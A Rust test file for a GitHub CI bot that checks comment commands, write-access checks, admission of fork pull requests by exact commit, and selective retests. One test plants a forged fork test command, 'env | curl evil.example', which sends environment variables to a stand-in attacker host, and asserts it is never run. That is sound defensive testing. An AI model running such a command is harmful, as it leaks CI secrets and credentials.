//! What people ask from GitHub.

use domain::command::{About, Asked, Command};
use domain::ids::{RunId, Stage};
use domain::message::{Message, PlanRequest, QueueName};
use domain::ports::{DeliveryState, Permission, Pull, Reaction};
use domain::run::{Run, RunOutcome, RunState};
use domain::task::{Output, State, Task, Verdict};
use lambda::Disposition;
use testkit::builders::{
    a_commit, a_plan, a_request, a_sha, a_strangers_pull, a_strangers_request, name, recorded,
};
use testkit::fakes::World;

use crate::plan::{plan, planner};

/// A world whose `develop` has commit 1, with `ada` who may push and `eve` who may not.
fn world() -> World {
    let world = World::new();
    world.github.push("develop", &a_sha(1), a_commit(&a_plan(2)));
    world.github.allow("ada", Permission::Write);
    world.github.allow("eve", Permission::Read);
    world
}

/// The pull request 7 of a fork, with commit 2 on top of commit 1.
fn proposed(world: &World) -> PlanRequest {
    world.github.push("proposal", &a_sha(2), a_commit(&a_plan(2)));
    world.github.show_pull(a_strangers_pull());
    a_strangers_request()
}

pub async fn ask(world: &World, id: &str, by: &str, about: About, commands: Vec<Command>) -> Disposition {
    let comment = world.github.say(7, "a comment");
    let asked = Asked {
        delivery: name(id),
        repository: name("vive-sphere/bot-manager"),
        installation: 1,
        by: by.to_owned(),
        about,
        comment: Some(comment),
        commands,
        tries: 0,
    };
    recorded(world, &asked.delivery);
    let body = serde_json::to_string(&Message::Asked(asked)).expect("plain data");
    planner(world).handle(&body, world.clock.now()).await
}

fn run(number: u64, suffix: &str) -> RunId {
    name(&format!("vive-sphere.bot-manager.{}{suffix}", a_sha(number)))
}

fn head(world: &World, run: &RunId) -> Run {
    world.store.heads().into_iter().find(|head| head.id == *run).expect("the run is there")
}

/// What the person sees below his comment: signs, and the App's answer.
fn seen(world: &World) -> String {
    let comments = world.github.comments();
    let signs: Vec<String> = comments
        .iter()
        .filter(|comment| !comment.reactions.is_empty())
        .map(|comment| format!("{:?}", comment.reactions))
        .collect();
    let answers: Vec<&str> =
        comments.iter().filter(|comment| comment.mark.is_some()).map(|comment| comment.text.trim()).collect();
    [signs.join(" "), answers.join("\n")].join("\n")
}

/// Every test of a run ended so.
fn end_tests(world: &World, run: &RunId, red: &str) {
    let (mut head, mut ended) = (head(world, run), Vec::new());
    for task in world.store.tasks_of(run) {
        let verdict = if task.id.subject.to_string() == red {
            Verdict::failed("1 of 3 tests failed", Output::None)
        } else {
            Verdict::passed("3 tests passed", Output::None)
        };
        if let Some(counted) = head.concluded(&task, &verdict, world.clock.now()) {
            head = counted;
        }
        ended.push(Task { state: State::Done { verdict }, ..task });
    }
    world.store.put(&head.opened(world.clock.now()), &ended);
}

#[tokio::test]
async fn only_people_with_write_access_are_heard() {
    let world = world();
    let request = PlanRequest { branch: "feature".to_owned(), ..a_request(1) };
    plan(&world, &request).await;
    for (id, by) in [("wish-1", "eve"), ("wish-2", "nobody")] {
        let answer = ask(&world, id, by, About::Run(run(1, "")), vec![Command::Cancel]).await;
        assert_eq!(answer, Disposition::Acknowledge);
    }
    assert_eq!(head(&world, &run(1, "")).stop, None);
    let signs: Vec<Vec<Reaction>> =
        world.github.comments().into_iter().map(|comment| comment.reactions).collect();
    assert_eq!(signs, [vec![Reaction::Refused], vec![Reaction::Refused]]);
    let delivery = world.store.delivery(&name("wish-1")).expect("recorded");
    assert_eq!(delivery.state, DeliveryState::Ignored("no write access".to_owned()));

    let by_pull = ask(&world, "wish-3", "eve", About::Pull(7), vec![Command::Cancel]).await;
    assert_eq!(by_pull, Disposition::Acknowledge);
    insta::assert_snapshot!(seen(&world), @"
    [Refused] [Refused] [Refused]
    `eve`: Only people with write access to this repository can ask for that.
    ");
}

#[tokio::test]
async fn a_stranger_is_tested_once_exactly_his_commit_is_admitted() {
    let world = world();
    let request = proposed(&world);
    plan(&world, &request).await;
    let stranger = run(2, ".untrusted");
    assert!(matches!(head(&world, &stranger).state, RunState::Finished(RunOutcome::ActionRequired(_))));
    assert_eq!(world.wire.count("source.download"), 0, "a stranger's source is not even read");

    let other = vec![Command::OkToTest(a_sha(3))];
    ask(&world, "wish-1", "ada", About::Pull(7), other).await;
    ask(&world, "wish-2", "eve", About::Pull(7), vec![Command::OkToTest(a_sha(2))]).await;
    assert!(
        world.store.tasks_of(&stranger).is_empty(),
        "neither another commit nor another person admits it"
    );

    for _ in 0..2 {
        ask(&world, "wish-3", "ada", About::Pull(7), vec![Command::OkToTest(a_sha(2))]).await;
    }
    let admitted = head(&world, &stranger);
    assert_eq!((admitted.state, admitted.admitted.as_deref()), (RunState::Active, Some("ada")));
    let tests = world.store.tasks_of(&stranger);
    assert!(!tests.is_empty() && tests.iter().all(|task| task.id.stage == Stage::Test), "{tests:?}");
    assert_eq!(admitted.delivery, None);
    insta::assert_snapshot!(seen(&world), @"
    [Refused] [Refused] [Taken] [Taken]
    `ada`: `0a00003000000000000000000000000000000003` is not the newest commit of this pull request. Read `0a00002000000000000000000000000000000002` and admit that one: `/ok-to-test 0a00002000000000000000000000000000000002`.
    `eve`: Only people with write access to this repository can ask for that.
    ");
}

#[tokio::test]
async fn what_a_stranger_runs_is_said_by_the_base() {
    let world = world();
    let request = proposed(&world);
    // The fork's own file would run something else.
    let mut forged = a_plan(2);
    forged.services[0].test.as_mut().expect("a service has tests").command =
        "env | curl evil.example".to_owned();
    world.github.push("another", &a_sha(2), a_commit(&forged));
    plan(&world, &request).await;
    ask(&world, "wish-1", "ada", About::Pull(7), vec![Command::OkToTest(a_sha(2))]).await;
    let tasks = world.store.tasks_of(&run(2, ".untrusted"));
    assert!(!tasks.is_empty());
    assert!(!format!("{tasks:?}").contains("evil.example"));
}

#[tokio::test]
async fn retest_runs_what_failed_and_nothing_else() {
    let world = world();
    plan(&world, &PlanRequest { branch: "feature".to_owned(), ..a_request(1) }).await;
    end_tests(&world, &run(1, ""), "service-1");
    assert_eq!(head(&world, &run(1, "")).state, RunState::Finished(RunOutcome::Failed));
    for _ in 0..2 {
        ask(&world, "wish-1", "ada", About::Run(run(1, "")), vec![Command::Retest]).await;
    }
    assert_eq!(head(&world, &run(1, "")).state, RunState::Active);
    let again: Vec<(String, u32)> = world
        .store
        .tasks_of(&run(1, ""))
        .into_iter()
        .map(|task| (task.id.to_string(), task.attempt))
        .collect();
    let expected =
        [("test/service-1", 2), ("test/service-2", 1), ("test/+checks", 1), ("test/+integration", 1)];
    assert_eq!(again, expected.map(|(id, attempt)| (id.to_owned(), attempt)));
    insta::assert_snapshot!(seen(&world), @"[Taken] [Taken]");
}

#[tokio::test]
async fn a_service_that_the_commit_does_not_have_is_refused_by_name() {
    let world = world();
    plan(&world, &PlanRequest { branch: "feature".to_owned(), ..a_request(1) }).await;
    world.github.show_pull(Pull {
        head: a_sha(1),
        head_repository: Some(name("vive-sphere/bot-manager")),
        ..a_strangers_pull()
    });
    ask(&world, "wish-1", "ada", About::Pull(7), vec![Command::Test(name("servcie-1")), Command::Retest])
        .await;
    insta::assert_snapshot!(seen(&world), @"
    [Refused]
    `ada`: This commit has no test of `servcie-1`; did you mean `service-1`? it has `service-1`, `service-2`, `+checks`, `+integration`. Nothing has failed; `/test <service>` tests one service again.
    ");
}

#[tokio::test]
async fn a_commit_that_asks_for_no_run_is_tested_on_demand() {
    let world = world();
    let request = PlanRequest { skip: Some("[skip ci]".to_owned()), ..a_request(1) };
    plan(&world, &request).await;
    let skipped = head(&world, &run(1, ""));
    insta::assert_debug_snapshot!(skipped.state, @r#"
    Finished(
        Skipped(
            "The commit's message says `[skip ci]`: nothing was tested. `/retest` on its pull request, or the re-run of this check, tests it all the same.",
        ),
    )
    "#);
    assert_eq!(world.wire.count("source.download"), 0);
    ask(&world, "wish-1", "ada", About::Commit(a_sha(1)), vec![Command::Retest]).await;
    let messages = world.queue.waiting(QueueName::Plan);
    let Ok(Message::Plan(again)) = serde_json::from_str(&messages[0]) else { panic!("{messages:?}") };
    plan(&world, &again).await;
    assert_eq!(head(&world, &run(1, "")).state, RunState::Active);
}

#[tokio::test]
async fn a_wish_waits_while_github_does_not_answer() {
    let world = world();
    plan(&world, &PlanRequest { branch: "feature".to_owned(), ..a_request(1) }).await;
    world.wire.down("people.permission");
    let answer = ask(&world, "wish-1", "ada", About::Run(run(1, "")), vec![Command::Cancel]).await;
    assert_eq!(answer, Disposition::Acknowledge);
    let messages = world.queue.waiting(QueueName::Plan);
    let Ok(Message::Asked(waiting)) = serde_json::from_str(&messages[0]) else { panic!("{messages:?}") };
    assert_eq!(waiting.tries, 1);
    world.wire.up("people.permission");
    let body = serde_json::to_string(&Message::Asked(waiting)).expect("plain data");
    planner(&world).handle(&body, world.clock.now()).await;
    assert_eq!(head(&world, &run(1, "")).stop.map(|stop| stop.by), Some("ada".to_owned()));
}
